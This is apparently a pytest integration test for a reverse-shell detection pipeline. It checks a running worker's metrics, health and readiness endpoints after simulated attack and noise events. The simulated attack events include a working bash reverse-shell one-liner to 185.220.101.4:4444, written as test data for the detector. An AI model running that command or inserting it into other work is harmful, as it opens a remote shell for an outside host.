"""/metrics, /healthz and /readyz of a running worker on the real broker, before and after an attack."""

from __future__ import annotations

import urllib.error
import urllib.request
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest
from confluent_kafka import Producer
from prometheus_client.parser import text_string_to_metric_families

from shellwatch.core.pipeline import Pipeline, PipelineConfig
from shellwatch.formats.event_codec import DecodeError, decode_record
from shellwatch.local.ports import free_port
from shellwatch.samples.ecs_factory import connection, execution
from tests.integration.deployment import LIVE, PARTITIONS, Deployment, wait_for
from tests.shared import RULE, SHELL_RULE, offline_alert_ids

SILENT_S = 4
Samples = dict[tuple[str, tuple[tuple[str, str], ...]], float]

# passes the pre-filter (it names the Java executable), then fails to decode: a dead letter
TRUNCATED = b'{"process": {"parent": {"executable": "/usr/bin/java"}}, "event": '


@pytest.fixture
def deployment(kafka_bootstrap: str, tmp_path: Path) -> Iterator[Deployment]:
    deployed = Deployment(kafka_bootstrap, tmp_path)
    deployed.extra_env.update(
        {
            "SHELLWATCH_WEB_ENABLED": "true",
            "SHELLWATCH_WEB_PORT": str(free_port()),
            "SHELLWATCH_SILENT_PARTITION_S": str(SILENT_S),
        }
    )
    yield deployed
    deployed.stop()


def get(port: int, path: str) -> tuple[int, str, bytes]:
    """Status, content type and body; (0, "", b"") while nothing listens yet."""
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=10) as response:
            return response.status, response.headers.get("Content-Type", ""), response.read()
    except urllib.error.HTTPError as error:
        return error.code, error.headers.get("Content-Type", ""), error.read()
    except (urllib.error.URLError, ConnectionError, TimeoutError):
        return 0, "", b""


def scrape(port: int) -> Samples:
    status, content_type, body = get(port, "/metrics")
    assert status == 200 and content_type.startswith("text/plain; version=0.0.4"), (status, content_type)
    return {
        (sample.name, tuple(sorted(sample.labels.items()))): sample.value
        for family in text_string_to_metric_families(body.decode())
        for sample in family.samples
    }


def series(samples: Samples, name: str, **labels: str) -> dict[tuple[tuple[str, str], ...], float]:
    """Every sample of ``name`` whose labels include ``labels``."""
    return {
        key: value for (sample, key), value in samples.items() if sample == name and set(labels.items()) <= set(key)
    }


def total(samples: Samples, name: str, **labels: str) -> float:
    return sum(series(samples, name, **labels).values())


def attack(host: str, conn_ms: int) -> list[dict[str, Any]]:
    return [
        connection(ts_ms=conn_ms, host_id=host, pid=4242, dest_ip="185.220.101.4", event_id=f"{host}-conn"),
        execution(
            ts_ms=conn_ms + 800,
            host_id=host,
            pid=31337,
            parent_pid=4242,
            event_id=f"{host}-shell",
            args=["/bin/bash", "-c", "bash -i >& /dev/tcp/185.220.101.4/4444 0>&1"],
        ),
    ]


def noise(count: int) -> list[dict[str, Any]]:
    return [
        connection(
            ts_ms=LIVE + i * 37,
            host_id=f"web-{i % 5}",
            pid=100 + i,
            dest_ip="93.184.216.34",
            event_id=f"noise-{i}",
            executable="/usr/sbin/nginx",
        )
        for i in range(count)
    ]


def wait_until_ready(port: int, worker: Any) -> None:
    # Faust's web server starts before the consumers and table recovery: liveness answers while starting.
    wait_for(lambda: get(port, "/healthz")[0] == 200, 90, f"/healthz on port {port}:\n{worker.log_tail()}")
    early_status, early_type, early_body = get(port, "/readyz")
    if early_status == 503:  # caught before the assignment or the recovery completed
        assert early_type.startswith("application/json")
        early = orjson.loads(early_body)
        assert early["status"] == "unavailable" and early["problems"]
        assert not all(early["checks"].values())
    else:
        assert early_status == 200
    wait_for(lambda: get(port, "/readyz")[0] == 200, 90, f"/readyz:\n{worker.log_tail()}")
    assert orjson.loads(get(port, "/readyz")[2]) == {
        "status": "ok",
        "checks": {
            "prefilter_running": True,
            "prefilter_assigned": True,
            "correlate_assigned": True,
            "recovery_complete": True,
            "cluster_reachable": True,
            "live": True,
        },
        "problems": [],
    }


def produce(deployment: Deployment, docs: list[dict[str, Any]]) -> tuple[Counter[str], Counter[str]]:
    """The documents and one undecodable record; returns the records per topic and those the pre-filter drops."""
    deployment.produce(docs)
    producer = Producer({"bootstrap.servers": deployment.bootstrap})
    producer.produce(deployment.process, key=b"host-z", value=TRUNCATED)
    assert producer.flush(30) == 0
    prefilter = Pipeline(RULE, PipelineConfig(), SHELL_RULE).prefilter
    raws = [
        (deployment.network if "network" in d["event"]["category"] else deployment.process, orjson.dumps(d))
        for d in docs
    ]
    raws.append((deployment.process, TRUNCATED))
    dropped = Counter(topic for topic, raw in raws if not prefilter.accepts(raw))
    assert dropped[deployment.network] == 60 and dropped[deployment.process] == 0
    return Counter(topic for topic, _ in raws), dropped


def test_metrics_health_and_readiness_of_a_running_worker(deployment: Deployment) -> None:
    port = int(deployment.extra_env["SHELLWATCH_WEB_PORT"])
    worker = deployment.start_worker()
    wait_until_ready(port, worker)
    assert get(port, "/table/")[0] == 404  # Faust's table pages (raw sequence state) are off

    docs = [*noise(60), *attack("host-a", LIVE + 1000), *attack("host-b", LIVE + 2000)]
    expected = offline_alert_ids(docs)
    assert len(expected) == 4  # a sequence and a known-bad shell alert per attacked host
    consumed, dropped = produce(deployment, docs)
    alerts = deployment.alerts_for(len(expected))
    assert {a["event"]["id"] for a in alerts} == expected
    bad = decode_record(TRUNCATED)
    assert isinstance(bad, DecodeError)
    group = deployment.app_id

    def settled() -> bool:
        samples = scrape(port)
        lags = series(samples, "shellwatch_consumer_lag_records")
        return (
            total(samples, "shellwatch_alerts_total") == len(expected)
            and {dict(key)["group"] for key in lags} == {f"{group}-prefilter", group}
            and all(value == 0 for value in lags.values())
        )

    wait_for(settled, 60, "alerts counted and the consumer lag of both stages back at 0")
    samples = scrape(port)
    for topic, count in consumed.items():
        assert total(samples, "shellwatch_records_consumed_total", stage="prefilter", topic=topic) == count
        assert total(samples, "shellwatch_records_prefiltered_total", topic=topic) == dropped[topic]
    assert total(samples, "shellwatch_records_decoded_total", outcome="forwarded") == 4
    assert total(samples, "shellwatch_records_consumed_total", stage="correlate", topic=f"{group}-relevant") >= 4
    assert total(samples, "shellwatch_dead_letters_total", stage="prefilter", reason=bad.reason) == 1
    assert total(samples, "shellwatch_dead_letters_total") == 1
    for rule_id, count in Counter(a["rule"]["id"] for a in alerts).items():
        assert total(samples, "shellwatch_alerts_total", rule=rule_id) == count
    assert total(samples, "shellwatch_alerts_total", rule="potential-reverse-shell-via-java", case="") == 2
    assert total(samples, "shellwatch_alerts_total", case="java_shell_execution_known_bad", severity="critical") == 2
    # every delivered alert is anchored to its exec's record and lands in the histogram, within a minute
    assert total(samples, "shellwatch_detection_latency_seconds_count") == len(expected)
    assert total(samples, "shellwatch_detection_latency_seconds_bucket", le="60.0") == len(expected)
    assert 0 < total(samples, "shellwatch_detection_latency_seconds_sum") < 60 * len(expected)
    assert total(samples, "shellwatch_detection_latency_unanchored_total") == 0
    assert total(samples, "shellwatch_far_future_events_total") == 0
    # (shellwatch_late_events_total may be 1 or 2 here: an exec forwarded before its connection can be
    # released by the network stream's progress marker first; the connection then pairs late, still alerting)
    assert total(samples, "shellwatch_state_held_events") == 0
    (build,) = series(samples, "shellwatch_build_info")
    assert dict(build)["faust"].startswith("0.15.")
    # Quiet now: every assigned input partition falls silent after SHELLWATCH_SILENT_PARTITION_S.
    wait_for(
        lambda: total(scrape(port), "shellwatch_silent_partitions") == 2 * PARTITIONS,
        30,
        "every input partition to count as silent",
    )
    assert get(port, "/healthz")[0] == 200  # silence is a metric, not a liveness failure
    assert get(port, "/readyz")[0] == 200
    assert worker.running()
